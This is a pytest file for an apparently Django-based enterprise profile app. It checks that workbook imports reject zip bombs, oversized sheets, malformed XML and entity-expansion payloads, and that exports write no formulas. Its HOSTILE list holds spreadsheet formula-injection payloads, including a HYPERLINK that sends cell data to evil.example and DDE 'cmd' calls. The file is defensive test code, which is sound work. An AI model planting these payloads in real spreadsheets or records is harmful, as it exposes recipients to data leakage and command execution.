"""Hostile workbooks are refused before parsing with a Chinese message, and no export ever writes a formula."""

import datetime
import io
import re
import tracemalloc
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from gaoqi.apps.enterprises.excel import profile_export, profile_import
from gaoqi.apps.enterprises.models import IPItem
from gaoqi.apps.enterprises.profile import profile_as_dict
from gaoqi.apps.training.documents import attendance_xlsx
from gaoqi.apps.training.models import Programme, Registration, Session
from gaoqi.core import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _save(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _worksheet(body: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>'
    ).encode()


def _replace_part(data: bytes, name: str, content: bytes | None = None, *, stream=None) -> bytes:
    """The workbook ``data`` with part ``name`` replaced by ``content`` (or the chunks ``stream`` yields)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
        with target.open(name, "w", force_zip64=True) as part:
            for chunk in stream or [content]:
                part.write(chunk)
    return out.getvalue()


def _year_sheet(data: bytes) -> str:
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    return sorted(n for n in names if n.startswith("xl/worksheets/sheet"))[2]  # 填写说明, 基本信息, 年度数据


@pytest.fixture
def workbook(cast):
    return profile_export(cast.ours)


@pytest.fixture
def parsing(monkeypatch):
    """Counts how often openpyxl is asked to parse a workbook."""
    calls = []
    real = spreadsheets.load_workbook
    monkeypatch.setattr(spreadsheets, "load_workbook", lambda *a, **k: calls.append(1) or real(*a, **k))
    return calls


def test_a_zip_bomb_is_refused_from_its_directory_before_any_xml_is_parsed(cast, workbook, parsing):
    row = b"<row>" + b'<c t="inlineStr"><is><t>0</t></is></c>' * 50 + b"</row>"
    head, tail = _worksheet("").split(b"</sheetData>")
    bomb = _replace_part(workbook, _year_sheet(workbook), stream=[head, *[row * 1000] * 100, b"</sheetData>" + tail])
    assert len(bomb) < 1024 * 1024
    before = profile_as_dict(cast.ours)
    tracemalloc.start()
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(report.messages) == 1
    assert re.fullmatch(r"文件解压后达 18\d\.\d\sMB，超过上限 20\.0\sMB（可能是压缩炸弹）", report.messages[0]), (
        report.messages
    )
    assert parsing == []
    assert peak < 20 * 1024 * 1024
    assert profile_as_dict(cast.ours) == before


def test_a_sheet_with_too_many_rows_is_refused_while_streaming(cast, workbook, settings):
    settings.UPLOADS = {"xlsx": {**settings.UPLOADS["xlsx"], "max_rows": 100}}
    book = load_workbook(io.BytesIO(workbook))
    for n in range(5000):
        book["年度数据"].append([2000 + n % 100])
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=_save(book))
    assert report.messages == ["工作表「年度数据」：行数过多，最多 100 行数据"]


def test_a_row_with_too_many_columns_is_refused(cast, workbook):
    body = '<row><c r="A1" t="inlineStr"><is><t>年度</t></is></c><c r="XFD1"><v>1</v></c></row>'
    data = _replace_part(workbook, _year_sheet(workbook), _worksheet(body))
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=data)
    assert report.messages == ["工作表「年度数据」：第 1 行有 16384 列，超过上限 100 列"]


def test_malformed_sheet_xml_gets_a_chinese_message_naming_the_part(cast, workbook):
    data = _replace_part(workbook, _year_sheet(workbook), _worksheet("<row><c><v>1</v></row>"))
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=data)
    assert len(report.messages) == 1
    assert report.messages[0].startswith("文件部件 xl/worksheets/sheet3.xml：XML 格式错误（第 1 行第"), report.messages


def test_a_malformed_workbook_part_gets_a_chinese_message(cast, workbook):
    data = _replace_part(workbook, "xl/workbook.xml", b"<workbook><sheets><sheet")
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=data)
    assert len(report.messages) == 1
    assert report.messages[0].startswith("文件部件 xl/workbook.xml：XML 格式错误（第 1 行第"), report.messages


def test_xml_entity_expansion_is_refused(cast, workbook):
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>'
        b'<c t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    data = _replace_part(workbook, _year_sheet(workbook), laughs)
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=data)
    assert report.messages == ["文件部件 xl/worksheets/sheet3.xml：含有不允许的 XML 实体或文档类型定义"]


def test_a_zip_that_is_not_a_workbook_says_what_is_missing(cast):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("报告.docx", b"x")
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=out.getvalue())
    assert report.messages == ["这是 ZIP 压缩包，但不是 Excel 工作簿：缺少 [Content_Types].xml、xl/workbook.xml"]


def test_a_truncated_upload_is_called_damaged(cast, workbook):
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=workbook[: len(workbook) // 2])
    assert report.messages == ["文件已损坏：ZIP 结构无法读取，请重新保存后再上传"]


def test_the_upload_page_shows_the_bomb_message_and_keeps_the_profile(client, cast, workbook):
    bomb = _replace_part(workbook, _year_sheet(workbook), stream=[b"<a>", b" " * (30 * 1024 * 1024), b"</a>"])
    client.force_login(cast.owner)
    upload = io.BytesIO(bomb)
    upload.name = "档案.xlsx"
    response = client.post(reverse("files:import"), {"file": upload})
    assert response.status_code == 400
    assert "（可能是压缩炸弹）" in response.content.decode()


# ---- formula injection -----------------------------------------------------------------------------------------


def _formulas(data: bytes) -> list[str]:
    """Every formula element in every sheet of a workbook."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [
        m
        for n in archive.namelist()
        if n.startswith("xl/worksheets/")
        for m in re.findall(r"<f>.*?</f>", archive.read(n).decode())
    ]


def _texts(data: bytes) -> list[str]:
    """Every text cell's value (XML reads a carriage return back as a line feed)."""
    book = load_workbook(io.BytesIO(data))
    return [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("value", HOSTILE)
def test_append_row_writes_formula_like_text_as_quoted_text(value):
    from openpyxl import Workbook

    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.active if not write_only else wb.create_sheet("s")
        spreadsheets.append_row(ws, [value, 12, "普通文字"])
        buffer = io.BytesIO()
        wb.save(buffer)
        assert _formulas(buffer.getvalue()) == []
        cell = load_workbook(buffer).worksheets[0]["A1"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)


def test_the_console_export_writes_enterprise_names_as_text(client, cast):
    type(cast.ours).objects.filter(pk=cast.ours.pk).update(name=HOSTILE[0])
    client.force_login(cast.bureau)
    data = client.get("/console/export.xlsx").content
    assert _formulas(data) == []
    assert HOSTILE[0] in _texts(data)


def test_the_attendance_export_writes_names_titles_and_phones_as_text(cast):
    now = timezone.now()
    session = Session.objects.create(
        programme=Programme.objects.create(title="系列", topic="recognition", year=now.year),
        title=HOSTILE[1],
        topic="recognition",
        speakers="李老师",
        district="440112",
        online_url="https://meeting.example.cn/1",
        starts_at=now + datetime.timedelta(days=2),
        ends_at=now + datetime.timedelta(days=2, hours=2),
        capacity=10,
        registration_opens=now,
        registration_closes=now + datetime.timedelta(days=1),
    )
    type(cast.ours).objects.filter(pk=cast.ours.pk).update(name=HOSTILE[2])
    registration = Registration.objects.create(
        session=session,
        enterprise=cast.ours,
        attendee_name=HOSTILE[3],
        attendee_title=HOSTILE[4],
        attendee_phone=HOSTILE[5][:11],
        status=Registration.Status.CONFIRMED,
        code="K7QM3XRD",
    )
    data = attendance_xlsx(session, Registration.objects.filter(pk=registration.pk).select_related("enterprise"))
    assert _formulas(data) == []
    assert {*HOSTILE[1:5], HOSTILE[5][:11].replace("\r", "\n")} <= set(_texts(data))


def test_the_profile_workbook_writes_user_text_as_text_and_imports_back_unchanged(cast):
    type(cast.ours).objects.filter(pk=cast.ours.pk).update(name=HOSTILE[0])
    cast.ours.refresh_from_db()
    IPItem.objects.filter(enterprise=cast.ours).update(title=HOSTILE[1], number=HOSTILE[3])
    before = profile_as_dict(cast.ours)
    data = profile_export(cast.ours)
    assert _formulas(data) == []
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[3]} <= set(_texts(data))
    report = profile_import(actor=cast.owner, enterprise=cast.ours, data=data)
    assert report.ok, report.messages
    assert profile_as_dict(cast.ours) == before
